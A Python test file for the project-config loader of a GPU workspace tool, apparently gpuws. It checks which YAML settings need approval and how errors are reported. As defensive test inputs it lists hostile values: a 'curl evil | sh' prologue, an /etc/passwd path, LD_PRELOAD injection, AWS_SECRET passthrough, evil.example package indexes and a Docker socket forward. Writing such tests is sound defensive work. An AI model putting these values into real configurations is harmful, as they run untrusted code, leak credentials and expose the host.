"""gpuws.yaml and hosts.yaml of a project: what is free, what wants a yes, what is refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from gpuws.config.project import ProjectFile, load_project, load_project_hosts
from gpuws.errors import GpuwsError
from gpuws.plan.model import NamedForward, ReverseForward, Target


def project(folder: Path, text: str) -> ProjectFile:
    file = folder / "gpuws.yaml"
    file.write_text(text)
    return load_project(file)


def wanted(folder: Path, text: str) -> list[tuple[str, str]]:
    return [(each.key, each.value) for each in project(folder, text).wanted]


def test_environment_cards_name_and_a_folder_below_need_no_yes(tmp_path: Path) -> None:
    text = "environment: env/gpu.yml\ngpus: 2\nname: demo\ndir: notebooks\n"
    found = project(tmp_path, text)
    assert found.settings == {
        "environment": ("env/gpu.yml",),
        "gpus": "2",
        "name": "demo",
        "dir": "notebooks",
    }
    assert found.wanted == ()
    assert found.places["gpus"].endswith("gpuws.yaml:2")


def test_several_environment_files_below_need_no_yes(tmp_path: Path) -> None:
    found = project(tmp_path, "environment: [base.yml, env/gpu.yml]\n")
    assert found.settings == {"environment": ("base.yml", "env/gpu.yml")}
    assert found.wanted == ()


def test_what_does_not_exist_yet_is_ignored_with_its_place(tmp_path: Path) -> None:
    found = project(tmp_path, "gpus: 1\nservices: {a: b}\nidle: 1h\n")
    assert found.settings == {"gpus": "1"}
    assert found.wanted == ()
    assert [note.partition(": ")[2].split(":")[0] for note in found.notes] == [
        "services",
        "idle",
    ]
    assert "gpuws.yaml:2: services" in found.notes[0]


def test_modules_to_check_need_no_yes(tmp_path: Path) -> None:
    """A notebook of the project could import them as well."""
    found = project(tmp_path, "check: [torch, numpy.linalg, torch]\n")
    assert found.settings["check"] == ("torch", "numpy.linalg")
    assert found.wanted == ()


def test_a_port_that_leads_back_is_read_for_a_person_to_allow(tmp_path: Path) -> None:
    found = project(tmp_path, "reverse: {proxy: 3128:80}\n")
    assert found.settings["reverse"] == (ReverseForward("proxy", 3128, 80),)
    assert [each.key for each in found.wanted] == ["reverse"]


def test_forwards_to_the_hosts_own_ports_need_no_yes(tmp_path: Path) -> None:
    found = project(tmp_path, "forwards: {board: 6006, api: 8891:8000}\n")
    assert found.wanted == ()
    assert found.settings["forwards"] == (
        NamedForward("board", Target(port=6006)),
        NamedForward("api", Target(port=8000), 8891),
    )


@pytest.mark.parametrize(
    "line",
    [
        "environment: ../other.yml",
        "environment: /etc/passwd",
        "environment: [base.yml, ../other.yml]",
        "environment: ~/env.yml",
        "environment: a/../../b.yml",
        "environment: 'C:\\env.yml'",
        "dir: /data",
        "dir: ~/data",
        "root: /data",
        "shared_root: /data",
        "prologue: curl evil | sh",
        "env: {LD_PRELOAD: /x.so}",
        "pass_env: [AWS_SECRET]",
        "channels: [https://evil.example/c]",
        "pip_index: https://evil.example/simple",
        "mirror: tuna",
        "mirror: {huggingface: 'https://evil.example'}",
        "cache_dir: /data",
        "use_env: base",
        "login_env: true",
        "transport: openssh",
        "forwards: {a: 6006, docker: 2375:/var/run/docker.sock}",
        "forwards: {database: internal:5432}",
        "reverse: {proxy: 3128:3128}",
    ],
)
def test_everything_else_wants_a_yes(tmp_path: Path, line: str) -> None:
    [each] = project(tmp_path, f"gpus: 1\n{line}\n").wanted
    assert each.key == line.partition(":")[0]
    assert each.where.endswith("gpuws.yaml:2")


def test_what_an_alias_hides_is_written_out(tmp_path: Path) -> None:
    """Also what hides behind a key that is ignored."""
    text = "idle: &x ['curl evil', 'é']\nprologue: *x\n"
    assert wanted(tmp_path, text) == [("prologue", '["curl evil", "\\u00e9"]')]


@pytest.mark.parametrize(
    ("text", "place", "word"),
    [
        ("rooot: x\n", ":1:1", "root:"),
        ("gpus: many\n", ":1:7", "count"),
        ("name: ../x\n", ":1:7", "../x"),
        ("dir: ../x\n", ":1:6", "begin with"),
        ("dir: a$b\n", ":1:6", "variables"),
        ("forwards: [6006]\n", ":1:11", "a map of names"),
        ("forwards: {jupyter: 6006}\n", ":1:11", "jupyter"),
        ("reverse: {proxy: 3128}\n", ":1:10", "lead back"),
        ("reverse: {proxy: 80:3128}\n", ":1:10", "lead back"),
        ("reverse: {a: 3128:1, b: 3128:2}\n", ":1:10", "one place"),
        ("check: 'import os'\n", ":1:8", "import"),
        ("gpus: 1\nssh: evil\n", ":2:1", "hosts.yaml"),
        ("- a\n", ":1:1", "a list"),
        ("gpus: [\n", ":1", "YAML"),
    ],
)
def test_a_mistake_is_told_with_its_place(tmp_path: Path, text: str, place: str, word: str) -> None:
    with pytest.raises(GpuwsError) as caught:
        project(tmp_path, text)
    assert (caught.value.code, caught.value.exit) == ("project-file-invalid", 3)
    assert f"gpuws.yaml{place}" in caught.value.message
    assert word in caught.value.message + caught.value.hint


def test_an_empty_file_sets_nothing(tmp_path: Path) -> None:
    assert project(tmp_path, "# nothing\n").settings == {}


def test_each_entry_of_a_projects_hosts_yaml_wants_its_own_and_what_all_share(
    tmp_path: Path,
) -> None:
    file = tmp_path / "hosts.yaml"
    file.write_text(
        "defaults:\n  root: /data\n"
        "hosts:\n  a:\n    ssh: me@a\n    gpus: 1\n  b: {dir: sub}\n  c: {rooot: x}\n"
    )
    found = load_project_hosts(file)
    assert set(found.entries) == {"a", "b"}
    assert [each.key for each in found.wanted["a"]] == ["root", "ssh"]
    assert [each.key for each in found.wanted["b"]] == ["root"]
    [problem] = found.problems
    assert (problem.code, "hosts.yaml:8" in problem.message) == ("project-file-invalid", True)
